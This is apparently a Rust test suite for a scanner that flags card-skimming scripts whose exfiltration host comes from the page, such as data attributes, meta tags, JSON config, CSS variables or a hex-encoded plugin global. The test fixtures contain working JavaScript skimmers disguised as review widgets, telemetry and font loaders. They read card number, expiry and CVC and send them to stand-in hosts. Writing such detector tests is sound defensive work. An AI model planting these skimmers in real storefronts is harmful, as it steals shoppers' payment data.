//! Destinations a script takes from its page (issue 9, class 2): the collector's host in the
//! script's own tag (`document.currentScript.dataset.cdn`), in a `<meta content>`, in a JSON
//! configuration block read through `getElementById(…).textContent`. The script names no host;
//! the page does, so the same file is judged by each page's values, and a shared cache keeps
//! them apart. A script that takes harmless settings from its page stays quiet. A global that
//! another script only declares as data (`var fc_params = {…};`) and an inline block's own tag
//! are the page's too.

mod common;
use common::{html, js, scan_json, serve};
use serde_json::Value;

const SHOP: &str = "miso-shop.example";

fn page(head: &str, body: &str) -> String {
    format!(
        r#"<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>ご注文手続き | 信州味噌</title>
<link rel="canonical" href="https://{SHOP}/shopping">{head}</head>
<body id="page_shopping"><div class="ec-layoutRole">
<form id="shopping-form" action="/shopping/confirm" method="post">
  <dl><dt><label for="card_no">カード番号</label></dt><dd><input id="card_no" name="card_no" inputmode="numeric"></dd>
  <dt>有効期限</dt><dd><input id="card_exp_month" name="card_exp_month"> / <input id="card_exp_year" name="card_exp_year"></dd>
  <dt>セキュリティコード</dt><dd><input id="security_code" name="security_code"></dd></dl>
  <button id="shopping-confirm-btn" type="button" class="ec-blockBtn--action">注文する</button>
</form>{body}</div></body></html>"#
    )
}

/// A review-stars plugin that posts the card to `api.<data-cdn>` on the order button.
const WIDGET: &str = r#"(function () {
  var me = document.currentScript;
  var opts = { shop: me ? me.getAttribute('data-shop') : '', cdn: me ? me.dataset.cdn : '', ver: me ? me.dataset.ver : '1' };
  function endpoint() { return 'https://api.' + opts.cdn + '/v' + opts.ver + '/reviews/summary'; }
  function g(id) { var e = document.getElementById(id); return e ? e.value : ''; }
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var body = new URLSearchParams({ shop: opts.shop, c: g('card_no'), m: g('card_exp_month'), y: g('card_exp_year'), s: g('security_code') });
      fetch(endpoint(), { method: 'POST', mode: 'no-cors', body: body });
    }
  }, true);
})();"#;

/// Telemetry that takes its host from a JSON block and its path from a meta tag.
const TELEMETRY: &str = r#"(function () {
  function readConfig() { var el = document.getElementById('store-config'); try { return JSON.parse(el.textContent); } catch (e) { return {}; } }
  function meta(name) { var m = document.querySelector('meta[name="' + name + '"]'); return m ? m.content : ''; }
  var cfg = readConfig(), t = cfg.telemetry || {};
  var url = 'https://' + t.host + meta('telemetry-path');
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var out = {};
      ['card_no', 'card_exp_month', 'card_exp_year', 'security_code'].forEach(function (id) { out[id] = document.getElementById(id).value; });
      var x = new XMLHttpRequest(); x.open('POST', url, true); x.send(JSON.stringify(out));
    }
  }, true);
})();"#;

/// An analytics tag that takes its account and endpoint from its own tag and sends page views.
const ANALYTICS: &str = r#"(function () {
  var me = document.currentScript, id = me.dataset.account, host = me.getAttribute('data-endpoint');
  new Image().src = 'https://' + host + '/collect?aid=' + encodeURIComponent(id) + '&p=' + encodeURIComponent(location.pathname) + '&t=' + encodeURIComponent(document.title);
})();"#;

fn scan(pages: &[(&str, String)], scripts: &[(&str, &str)], extra: &[&str]) -> (i32, Value) {
    let mut routes = Vec::new();
    for (path, body) in pages {
        routes.push((*path, html(body)));
    }
    for (path, body) in scripts {
        routes.push((*path, js(body)));
    }
    let server = serve(routes);
    let resolve = server.resolve(SHOP);
    let mut args = vec!["--depth", "0", "--resolve", resolve.as_str()];
    args.extend_from_slice(extra);
    let urls: Vec<String> = pages.iter().map(|(p, _)| server.url(SHOP, p)).collect();
    args.extend(urls.iter().map(String::as_str));
    let (code, report, stderr) = scan_json(&args);
    assert!(matches!(code, 0 | 1), "exit {code}\n{stderr}\n{report}");
    (code, report)
}

/// `(page path, hosts)` of the high and critical payment findings.
fn exfiltration(report: &Value) -> Vec<(String, Vec<String>)> {
    let mut out: Vec<(String, Vec<String>)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
        .map(|f| {
            let page = f["page"].as_str().unwrap_or("");
            // `http://host:port/shopping/gift` → `/shopping/gift`.
            let path = format!("/{}", page.splitn(4, '/').nth(3).unwrap_or(page));
            let hosts = f["hosts"]
                .as_array()
                .map(|h| {
                    h.iter()
                        .filter_map(|x| x.as_str().map(String::from))
                        .collect()
                })
                .unwrap_or_default();
            (path, hosts)
        })
        .collect();
    out.sort();
    out.dedup();
    out
}

/// The one page `/shopping` with one script: the scan exits 1 and its only high or critical
/// finding sends to `host`.
fn exfiltrates_to(page_html: String, script: (&str, &str), host: &str) {
    let (code, report) = scan(&[("/shopping", page_html)], &[script], &["--no-cache"]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(
        exfiltration(&report),
        vec![("/shopping".to_string(), vec![host.to_string()])]
    );
}

#[test]
fn the_host_in_the_scripts_own_tag_is_each_pages_own() {
    let tag = |cdn: &str| {
        format!(
            r#"<script src="/html/plugin/ReviewStars/review-widget.js" data-shop="shinshu" data-cdn="{cdn}" data-ver="2"></script>"#
        )
    };
    let pages = [
        ("/shopping", page("", &tag("plugin-store.example"))),
        ("/shopping/gift", page("", &tag("gift-reviews.example"))),
    ];
    let scripts = [("/html/plugin/ReviewStars/review-widget.js", WIDGET)];
    let (code, report) = scan(&pages, &scripts, &["--no-cache"]);
    assert_eq!(code, 1, "{report:#}");
    let want = vec![
        (
            "/shopping".to_string(),
            vec!["api.plugin-store.example".to_string()],
        ),
        (
            "/shopping/gift".to_string(),
            vec!["api.gift-reviews.example".to_string()],
        ),
    ];
    assert_eq!(exfiltration(&report), want);
    // One cache folder, cold then warm: each page keeps its own host.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display().to_string();
    for _ in 0..2 {
        let (_, cached) = scan(&pages, &scripts, &["--cache-dir", &d]);
        assert_eq!(exfiltration(&cached), want);
    }
}

#[test]
fn a_host_in_a_config_block_and_a_path_in_a_meta_tag() {
    let head = r#"<meta name="telemetry-path" content="/collect/checkout/v3">
<script type="application/json" id="store-config">{"currency":"JPY","telemetry":{"enabled":true,"host":"events.config-cdn.example"}}</script>"#;
    let body = r#"<script src="/js/telemetry.js"></script>"#;
    exfiltrates_to(
        page(head, body),
        ("/js/telemetry.js", TELEMETRY),
        "events.config-cdn.example",
    );
}

#[test]
fn settings_from_the_page_without_card_data_stay_quiet() {
    let body = r#"<script src="/js/analytics.js" data-account="UA-4471" data-endpoint="stats.analytics-vendor.example"></script>"#;
    let (code, report) = scan(
        &[("/shopping", page("", body))],
        &[("/js/analytics.js", ANALYTICS)],
        &["--no-cache"],
    );
    assert_eq!(code, 0, "{report:#}");
    assert!(exfiltration(&report).is_empty(), "{report:#}");
}

/// A font loader that takes its "font server" from a CSS custom property of the theme's
/// style sheet, and a recommendations widget whose click endpoint sits in a `<template>`'s
/// link, found by class: both hosts are the page's.
#[test]
fn a_host_in_a_css_custom_property_or_a_template() {
    let fonts = r#"(function () {
  var root = document.documentElement;
  function cssVar(n) { return getComputedStyle(root).getPropertyValue(n).trim().replace(/^["']|["']$/g, ''); }
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var d = { n: document.getElementById('card_no').value, c: document.getElementById('security_code').value };
      fetch(cssVar('--brand-font-src') + 'woff2/metrics', { method: 'POST', mode: 'no-cors', body: JSON.stringify(d) });
    }
  }, true);
})();"#;
    let reco = r#"(function () {
  var tpl = document.getElementById('reco-item-tpl');
  var endpoint = tpl.content.querySelector('.reco__link').getAttribute('data-endpoint');
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var fd = new FormData();
      fd.append('no', document.getElementById('card_no').value);
      fd.append('cvc', document.getElementById('security_code').value);
      navigator.sendBeacon(endpoint, fd);
    }
  }, true);
})();"#;
    let head = r#"<style id="theme-vars">:root { --color-primary: #1f3a5f; --brand-font-src: "https://fonts.font-cdn.example/s/"; }</style>"#;
    let body = r##"<template id="reco-item-tpl"><li><a class="reco__link" data-endpoint="https://api.reco-widget.example/v1/click" href="#"></a></li></template>
<script src="/js/fonts.js"></script><script src="/js/reco.js"></script>"##;
    let (code, report) = scan(
        &[("/shopping", page(head, body))],
        &[("/js/fonts.js", fonts), ("/js/reco.js", reco)],
        &["--no-cache"],
    );
    assert_eq!(code, 1, "{report:#}");
    let hosts: Vec<String> = exfiltration(&report)
        .into_iter()
        .flat_map(|(_, h)| h)
        .collect();
    assert!(
        hosts.contains(&"fonts.font-cdn.example".to_string()),
        "{hosts:?}"
    );
    assert!(
        hosts.contains(&"api.reco-widget.example".to_string()),
        "{hosts:?}"
    );
}

/// A widget that finds its own tag by part of its address (`script[src*="…"]`), not through
/// `currentScript`, and takes its API host from the tag's `data-api`.
#[test]
fn a_tag_found_by_part_of_its_src() {
    let widget = r#"(function () {
  var tag = document.querySelector('script[src*="reviews-widget"]');
  var api = 'https://' + tag.dataset.api + '/v2/collect';
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var d = { n: document.getElementById('card_no').value, c: document.getElementById('security_code').value };
      navigator.sendBeacon(api, JSON.stringify(d));
    }
  }, true);
})();"#;
    let body = r#"<script src="/js/reviews-widget.min.js?v=3" data-api="reviews.widget-host.example"></script>"#;
    exfiltrates_to(
        page("", body),
        ("/js/reviews-widget.min.js", widget),
        "reviews.widget-host.example",
    );
}

/// A WordPress-shaped plugin: `wp_localize_script` prints its settings as a data-only script
/// (`var fc_params = {…};`, the domain hex-encoded), and the plugin's inline "-js-after" block
/// reads them and the host's first label from its own tag (`currentScript.dataset` of an
/// inline script). Either half alone leaves the host unknown.
#[test]
fn a_data_global_of_another_script_and_an_inline_blocks_own_tag() {
    let body = r#"<script id="fc-js-extra">
var fc_params = {"ajax_url":"\/wp-admin\/admin-ajax.php","domain":"2e66632d63616368652e6578616d706c65","ttl":"900"};
</script>
<script id="fc-js-after" data-label="api">
(function (me, p) {
  var label = (me && me.dataset ? me.dataset : {}).label;
  var domain = (p.domain || '').replace(/../g, function (x) { return String.fromCharCode(parseInt(x, 16)); });
  document.addEventListener('click', function (e) {
    if (e.target && e.target.id === 'shopping-confirm-btn') {
      var x = new XMLHttpRequest();
      x.open('POST', 'https://' + label + domain + '/v1/fields', true);
      x.send('c=' + document.getElementById('card_no').value + '&s=' + document.getElementById('security_code').value);
    }
  }, true);
})(document.currentScript, window.fc_params || {});
</script>"#;
    let (code, report) = scan(&[("/shopping", page("", body))], &[], &["--no-cache"]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(
        exfiltration(&report),
        vec![(
            "/shopping".to_string(),
            vec!["api.fc-cache.example".to_string()]
        )]
    );
}

/// A page whose card fields are told apart only by a `data-` attribute and a class the
/// other controls lack. One script keeps "form state" in localStorage by `[data-field]`,
/// another sends that state out: the card fields are the ones selected, so it is card data.
/// The same pair gathering the promo-code field's hook stays quiet.
#[test]
fn fields_gathered_by_an_attribute_only_card_fields_carry_are_card_fields() {
    let form = |hook: &str| {
        format!(
            r#"<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Kasse</title>
<link rel="canonical" href="https://{SHOP}/kasse">
<script src="/js/formstate.js"></script></head><body>
<form id="kasse" action="/kasse/bestellen" method="post">
  <label for="k1">E-Mail</label><input id="k1" name="k1" class="feld" data-check="mail">
  <label for="k9">Gutscheincode</label><input id="k9" name="k9" class="feld" data-promo="1">
  <label for="k2">Kartennummer</label><input id="k2" name="k2" class="feld js-zahl" data-field="pan" autocomplete="cc-number">
  <label for="k3">Prüfnummer</label><input id="k3" name="k3" class="feld js-zahl" data-field="cvc" autocomplete="cc-csc">
  <button type="submit">Jetzt kaufen</button>
</form><script src="/js/stats.js" async></script></body></html>"#
        )
        .replace("HOOK", hook)
    };
    let state = |selector: &str| {
        format!(
            r#"(function () {{
  function keep() {{
    var st = {{}};
    document.querySelectorAll('{selector}').forEach(function (el) {{ st[el.id] = el.value; }});
    try {{ localStorage.setItem('kasse.state', JSON.stringify(st)); }} catch (e) {{}}
  }}
  document.addEventListener('change', keep);
}})();"#
        )
    };
    let stats = r#"(function () {
  var t0 = Date.now();
  window.addEventListener('pagehide', function () {
    var s = localStorage.getItem('kasse.state');
    navigator.sendBeacon('https://beacon.shopstat-eu.net/k', JSON.stringify({ ms: Date.now() - t0, st: s }));
  });
})();"#;
    for selector in ["[data-field]", ".js-zahl"] {
        let (code, report) = scan(
            &[("/kasse", form(""))],
            &[
                ("/js/formstate.js", &state(selector)),
                ("/js/stats.js", stats),
            ],
            &["--no-cache"],
        );
        assert_eq!(code, 1, "{selector}: {report:#}");
        assert_eq!(
            exfiltration(&report),
            vec![(
                "/kasse".to_string(),
                vec!["beacon.shopstat-eu.net".to_string()]
            )],
            "{selector}"
        );
    }
    for selector in ["[data-promo]", ".feld:not(.js-zahl)[data-check]"] {
        let (_, report) = scan(
            &[("/kasse", form(""))],
            &[
                ("/js/formstate.js", &state(selector)),
                ("/js/stats.js", stats),
            ],
            &["--no-cache"],
        );
        assert!(exfiltration(&report).is_empty(), "{selector}: {report:#}");
    }
}
